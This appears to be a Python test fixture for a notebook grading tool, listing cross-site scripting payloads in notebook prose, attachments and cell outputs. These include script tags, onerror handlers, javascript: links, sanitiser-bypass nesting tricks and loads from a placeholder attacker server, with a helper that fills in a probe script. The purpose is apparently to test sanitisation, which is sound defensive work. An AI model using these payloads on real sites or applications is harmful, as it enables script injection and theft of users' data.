"""Prose, pictures and outputs that would run a script in a reader's browser, load something or cover the page.

In each ``RUN`` stands for a script and ``ELSEWHERE`` for the address of a server of the attacker's.
"""

import base64

SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'><script>RUN</script><image href='ELSEWHERE/svg'/></svg>"
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="  # one dot
PROSE = {
    "script": "<script>RUN</script>",
    "script from elsewhere": '<script src="ELSEWHERE/a.js"></script>',
    "script in a block": "<div>\n\n<script>RUN</script>\n\n</div>",
    "script in capitals": "<SCRIPT\n>RUN</SCRIPT\n>",
    "half a script": "<scr<script>ipt>RUN</scr</script>ipt>",
    "error of a picture": '<img src=x onerror="RUN">',
    "error without spaces": "<img/src=x/onerror=RUN>",
    "picture from elsewhere": '<img src="ELSEWHERE/b.png" srcset="ELSEWHERE/c.png 2x"> ![x](ELSEWHERE/d.png)',
    "title of a picture": '![x](ELSEWHERE/d.png "\\" onerror=\\"RUN") ![" onerror="RUN](attachment:gone.png)',
    "link that runs": "[x](javascript:RUN) [y](JaVaScRiPt&colon;RUN) <a href='java\tscript:RUN'>z</a>",
    "link by reference": "[x][a] ![y][a]\n\n[a]: javascript:RUN",
    "link to a document": "[x](data:text/html,<script>RUN</script>) <a href='data:text/html,<b onclick=RUN>'>y</a>",
    "link to a file beside it": "[x](evil.html) [y](/formgrader/submissions/evil.html) [z](//ELSEWHERE)",
    "event of a tag": "<b onmouseover=RUN onclick=RUN>x</b> <details open ontoggle=RUN>x</details>",
    "event of no tag": "<xss onfocus=RUN tabindex=1 autofocus>x</xss> <x contenteditable onblur=RUN>y</x>",
    "focus": "<input autofocus onfocus=RUN> <select autofocus onfocus=RUN> <textarea autofocus onfocus=RUN>",
    "base": '<base href="ELSEWHERE/">',
    "frame": '<iframe src="ELSEWHERE/f"></iframe> <iframe srcdoc="<script>parent.RUN</script>"></iframe>',
    "object": '<object data="ELSEWHERE/o"></object> <embed src="ELSEWHERE/e"> <applet code="ELSEWHERE/p">',
    "refresh": '<meta http-equiv="refresh" content="0; url=ELSEWHERE/m">',
    "style": "<style>@import url(ELSEWHERE/s); body { background: url(ELSEWHERE/t) }</style>",
    "style of a tag": '<div style="position:fixed;inset:0;width:100%;height:100%;background:url(ELSEWHERE/u)">x</div>',
    "classes of the page": '<div class="navbar navbar-fixed-top score" id="statusmessage" data-toggle="x">x</div>',
    "form": '<form action="ELSEWHERE/g"><input type=image src="ELSEWHERE/h"><button formaction="javascript:RUN">x',
    "sheet": '<link rel="stylesheet" href="ELSEWHERE/l"> <link rel="prefetch" href="ELSEWHERE/q">',
    "svg": SVG,
    "svg that moves": "<svg><a><animate attributeName=href values='javascript:RUN'/><text x=9 y=9>x</text></a></svg>",
    "mathml": "<math href='javascript:RUN'><mi xlink:href='javascript:RUN'>x</mi><maction>y</math>",
    "media": '<video poster="ELSEWHERE/v" src="ELSEWHERE/w" onerror=RUN></video><audio src=x onerror=RUN autoplay>',
    "nested namespaces": "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=RUN>'>",
    "nested styles": "<svg></p><style><a id='</style><img src=x onerror=RUN>'>",
    "nested text": "<noscript><p title='</noscript><img src=x onerror=RUN>'></noscript><xmp><p title='</xmp><img src=x "
    "onerror=RUN>'>",
    "comment": "<!--><img src=x onerror=RUN>--> <!--!><img src=x onerror=RUN> <![CDATA[<img src=x onerror=RUN>]]>",
    "end of the page": "</div></div></div></body></html><script>RUN</script>",
    "formula that links": "$\\href{javascript:RUN}{x}$ $$\\style{position:fixed}{\\cssId{score}{\\class{score}{x}}}$$",
    "formula with a tag": "$\\text{<img src=x onerror=RUN>}$ $\\mathrm{</math><script>RUN</script>}$ \\\\(<b>",
    "formula in an attribute": '<img alt="$x$" src="x"> ![$\\text{" onerror="RUN}$](attachment:image.png)',
    "formula's environment": '\\begin{align}<img src=x onerror=RUN>\\end{align} \\begin{html}<script>RUN',
    "language of a code": '```"><img src=x onerror=RUN>\nx\n```\n\n```mermaid\n<img src=x onerror=RUN>\n```',
    "heading": "# <img src=x onerror=RUN>\n\n| <script>RUN</script> |\n|---|\n| <img src=x onerror=RUN> |",
    "address": "<https://x.org/\"onmouseover=RUN//> https://x.org/<img/src=x/onerror=RUN>",
    "template": "{{ 7 * 7 }} {% raw %} <template><img src=x onerror=RUN></template> <slot onslotchange=RUN>",
    "old tags": "<marquee onstart=RUN>x</marquee> <bgsound src=ELSEWHERE/z> <body onload=RUN background=ELSEWHERE/y>",
    "attached documents": "![a](attachment:a.svg) ![b](attachment:b.png) ![c](attachment:c.png) "
    '<img src="attachment:a.svg"> <img src=\'attachment:d" onerror="RUN.png\'>',
}  # fmt: skip
ATTACHMENTS = {
    "a.svg": {"image/svg+xml": base64.b64encode(SVG.encode()).decode()},
    "b.png": {"image/png": base64.b64encode(SVG.encode()).decode()},
    "c.png": {"text/html": "<script>RUN</script>", 'image/png" onerror="RUN': PNG},
    'd" onerror="RUN.png': {"image/png": PNG},
    "image.png": {"image/png": f'{PNG}" onerror="RUN'},
}
OUTPUTS = {
    "text/html": "<script>RUN</script><img src=x onerror=RUN><div style='position:fixed' class='navbar'>x</div>"
    "<iframe srcdoc='<script>parent.RUN</script>'></iframe><link rel=stylesheet href=ELSEWHERE/k>",
    "text/markdown": "<script>RUN</script> [x](javascript:RUN) $\\href{javascript:RUN}{x}$",
    "text/latex": "$\\href{javascript:RUN}{x}$ <script>RUN</script>",
    "image/svg+xml": SVG,
    "image/png": 'x" onerror="RUN',
    "image/jpeg": 'x" onerror="RUN',
    "application/javascript": "RUN",
    "application/vnd.jupyter.widget-view+json": '{"model_id": "</script><script>RUN</script>"}',
    "text/plain": "<script>RUN</script>",
}


def aimed(text: str, run: str, elsewhere: str) -> str:
    """Return a payload with the script and the address that a test listens for."""
    return text.replace("RUN", run).replace("ELSEWHERE", elsewhere)
